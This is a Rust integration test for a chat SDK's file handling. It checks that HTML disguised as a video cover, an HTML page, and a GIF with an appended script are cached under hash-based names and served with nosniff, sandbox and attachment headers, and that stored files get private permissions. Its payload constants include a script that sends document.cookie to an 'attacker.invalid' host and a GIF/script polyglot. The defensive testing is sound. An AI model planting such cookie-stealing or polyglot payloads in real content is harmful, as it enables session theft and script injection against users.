//! Files a hostile contact sends. Bob speaks the protocol directly (an
//! honest SDK would not write these payloads): a video whose cover is HTML
//! declared `thumbFormat: "html"` (and `videoFormat: "html"`), a file
//! `x.html` of HTML, and an image that is a real GIF with a `<script>`
//! after it. Alice's SDK downloads each: the cache names every file by its
//! SHA-256 and an extension from the server-sniffed type (never `html`,
//! never bob's word), and the server's download answers carry `nosniff`,
//! `CSP: sandbox` and, for what is not media, `Content-Disposition:
//! attachment`. Then: everything on disk is created 0700/0600 under
//! umask 022.

use confab_proto::message::{FilePayload, ImageInfo, ImagePayload, MessageElement, VideoPayload};
use confab_proto::ops;
use confab_sdk::{Message, Rendition};
use confab_testkit::sha256_hex;
use confab_tests::{within, RawClient, TestClient, TestServer};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

/// A page that would run in whatever origin served it.
const PAGE: &[u8] = b"<!doctype html><html><body><script>fetch('/bridge')</script></body></html>";

/// The cover bob declares an HTML thumbnail (other bytes than [`PAGE`], so
/// it is a file of its own).
const COVER: &[u8] = b"<html><script>location='http://attacker.invalid/'+document.cookie</script>";

/// A valid 1x1 GIF followed by a script: a GIF by its magic bytes.
const GIF_WITH_SCRIPT: &[u8] = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff\
!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;\
<script>alert(document.domain)</script>";

/// An MP4 as far as sniffing goes: an `ftyp` box, then 4,000 bytes of filler.
fn mp4() -> Vec<u8> {
    confab_testkit::sniffable_mp4(confab_testkit::MP4_FTYP.len() + 4_000)
}

/// The file service over HTTP as one user.
struct Files {
    base: String,
    http: reqwest::Client,
    auth: String,
}

impl Files {
    fn new(server: &TestServer, user: &str) -> Self {
        Self {
            base: server.http_url(),
            http: reqwest::Client::new(),
            auth: format!("UserSig {user}:{}", server.user_sig(user)),
        }
    }

    /// Uploads `bytes` as `kind` named `name` in one PATCH; returns its ID.
    async fn upload(&self, kind: &str, name: &str, bytes: &[u8]) -> String {
        let create = self
            .http
            .post(format!("{}/files/uploads", self.base))
            .header("Authorization", &self.auth)
            .json(&json!({"kind": kind, "fileName": name, "size": bytes.len()}));
        let created: Value = within("create", async {
            create.send().await.expect("create sent").json().await.expect("create answer")
        })
        .await;
        let upload = created["uploadID"].as_str().expect("uploadID").to_owned();
        let patch = self
            .http
            .patch(format!("{}/files/uploads/{upload}", self.base))
            .header("Authorization", &self.auth)
            .header("Upload-Offset", "0")
            .body(bytes.to_vec());
        let done: Value = within("patch", async {
            patch.send().await.expect("patch sent").json().await.expect("patch answer")
        })
        .await;
        let file = &done["file"];
        assert_eq!(file["uuid"], sha256_hex(bytes), "{done}");
        file["uuid"].as_str().expect("uuid").to_owned()
    }

    /// The headers of `GET /files/<path>`.
    async fn headers_of(&self, path: &str) -> reqwest::header::HeaderMap {
        let request = self
            .http
            .get(format!("{}/files/{path}", self.base))
            .header("Authorization", &self.auth);
        let response = within("download", request.send()).await.expect("download answers");
        assert_eq!(response.status(), reqwest::StatusCode::OK, "{path}");
        response.headers().clone()
    }
}

/// Bob's three messages to alice, built by hand.
async fn bob_sends_hostile_files(server: &TestServer) -> [String; 4] {
    let bob = Files::new(server, "bob");
    let video = bob.upload("video", "clip.html", &mp4()).await;
    // HTML cannot pass as an image upload (2252), so bob uploads it as a
    // file and names it as the cover.
    let cover = bob.upload("file", "cover.html", COVER).await;
    let page = bob.upload("file", "x.html", PAGE).await;
    let gif = bob.upload("image", "y.html", GIF_WITH_SCRIPT).await;
    let url = |id: &str| format!("{}/files/{id}", server.http_url());
    let elements = [
        MessageElement::Video(VideoPayload {
            video_uuid: video.clone(),
            video_url: url(&video),
            video_format: "html".into(),
            video_size: mp4().len() as u64,
            thumb_uuid: cover.clone(),
            thumb_url: url(&cover),
            snapshot_url: url(&cover),
            thumb_format: "html".into(),
            thumb_size: COVER.len() as u64,
            thumb_width: 1,
            thumb_height: 1,
            ..VideoPayload::default()
        }),
        MessageElement::File(FilePayload {
            uuid: page.clone(),
            file_name: "x.html".into(),
            file_url: url(&page),
            file_size: PAGE.len() as u64,
        }),
        MessageElement::Image(ImagePayload {
            uuid: gif.clone(),
            image_format: 255,
            image_info_array: vec![ImageInfo {
                kind: 0,
                width: 1,
                height: 1,
                size: GIF_WITH_SCRIPT.len() as u64,
                url: url(&gif),
            }],
        }),
    ];
    let mut ws = RawClient::login(server, "bob").await;
    for (random, element) in (1..).zip(elements) {
        let mut send = ops::SendMessage::c2c_text("alice", random, "");
        send.message.element = element;
        ws.call(&send).await.expect("the server takes bob's message");
    }
    [video, cover, page, gif]
}

/// Alice's cache: `<data dir>/<SDKAppID>/alice.files`.
fn cache_dir(server: &TestServer, data_dir: &Path) -> PathBuf {
    data_dir.join(server.sdk_app_id().to_string()).join("alice.files")
}

async fn download(alice: &TestClient, message: &Message, rendition: Rendition) -> PathBuf {
    within("download", alice.tim.download_file(message, rendition))
        .await
        .expect("alice downloads it")
}

#[tokio::test]
async fn a_contacts_declared_types_and_names_never_name_a_cached_file() {
    let server = TestServer::start().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let alice = TestClient::login_at(&server, "alice", &dir.path().join("alice")).await;
    let [video, cover, page, gif] = bob_sends_hostile_files(&server).await;
    let received = alice.events.wait_received(3).await;
    let cache = cache_dir(&server, &dir.path().join("alice"));

    // (message, rendition, file ID, content, extension the cache gives it)
    let cases = [
        (&received[0], Rendition::Original, &video, mp4(), "mp4"),
        (&received[0], Rendition::VideoCover, &cover, COVER.to_vec(), "bin"),
        (&received[1], Rendition::Original, &page, PAGE.to_vec(), "bin"),
        (&received[2], Rendition::Original, &gif, GIF_WITH_SCRIPT.to_vec(), "gif"),
    ];
    for (message, rendition, id, content, extension) in cases {
        let path = download(&alice, message, rendition).await;
        assert_eq!(path.parent(), Some(cache.as_path()), "{}", path.display());
        assert_eq!(path.file_name().and_then(|n| n.to_str()), Some(&*format!("{id}.{extension}")));
        assert_eq!(path.file_stem().and_then(|n| n.to_str()), Some(&*sha256_hex(&content)));
        assert_eq!(std::fs::read(&path).expect("read"), content);
        // "Open" hands the system only what the server sniffed as media or
        // a known document: never the HTML, whatever bob called it.
        assert_eq!(confab_sdk::is_safe_to_open(&path), extension != "bin", "{}", path.display());
    }
    let names: Vec<String> = std::fs::read_dir(&cache)
        .expect("cache dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.iter().all(|n| !n.to_ascii_lowercase().contains("htm")), "{names:?}");
    assert_eq!(names.len(), 4, "{names:?}");

    // The server's answers to alice: the sniffed type, never rendered as
    // a document; media stay inline, the rest are attachments.
    let files = Files::new(&server, "alice");
    for (path, content_type, attachment) in [
        (video.clone(), "video/mp4", false),
        (cover.clone(), "application/octet-stream", true),
        (page.clone(), "application/octet-stream", true),
        (format!("{page}/x.html"), "application/octet-stream", true),
        (gif.clone(), "image/gif", false),
        (format!("{gif}/y.html"), "image/gif", false),
    ] {
        let headers = files.headers_of(&path).await;
        assert_eq!(headers["content-type"], content_type, "{path}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(headers["content-security-policy"], "sandbox", "{path}");
        let disposition = headers.get("content-disposition").map(|v| v.to_str().expect("ascii"));
        assert_eq!(disposition, attachment.then_some("attachment"), "{path}");
    }
}

#[cfg(unix)]
#[tokio::test]
async fn server_and_sdk_data_are_created_for_their_user_alone() {
    use confab_private_fs::mode_of;
    let server = TestServer::start().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let data_dir = dir.path().join("alice");
    let alice = TestClient::login_at(&server, "alice", &data_dir).await;
    let [video, cover, _, gif] = bob_sends_hostile_files(&server).await;
    let received = alice.events.wait_received(3).await;
    let cached = [
        download(&alice, &received[0], Rendition::Original).await,
        download(&alice, &received[0], Rendition::VideoCover).await,
        download(&alice, &received[2], Rendition::Original).await,
    ];

    let mode = |path: &Path| mode_of(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let server_dir = server.data_dir().to_path_buf();
    let stored = |id: &str| server_dir.join("files").join(&id[..2]).join(id);
    let mut private_dirs = vec![
        server_dir.clone(),
        server_dir.join("files"),
        server_dir.join("files/tmp"),
        stored(&video).parent().expect("shard").to_path_buf(),
        data_dir.clone(),
        data_dir.join(server.sdk_app_id().to_string()),
        cache_dir(&server, &data_dir),
    ];
    private_dirs.dedup();
    for path in &private_dirs {
        assert_eq!(mode(path), 0o700, "{}", path.display());
    }
    let sdk_store = data_dir.join(server.sdk_app_id().to_string()).join("alice.sqlite");
    let mut private_files =
        vec![stored(&video), stored(&cover), stored(&gif), server_dir.join("confab.db")];
    private_files.extend(cached);
    private_files.push(sdk_store.clone());
    for database in [server_dir.join("confab.db"), sdk_store] {
        for suffix in ["-wal", "-shm"] {
            let mut companion = database.clone().into_os_string();
            companion.push(suffix);
            let companion = PathBuf::from(companion);
            if companion.exists() {
                private_files.push(companion);
            }
        }
    }
    for path in &private_files {
        assert_eq!(mode(path), 0o600, "{}", path.display());
    }
}
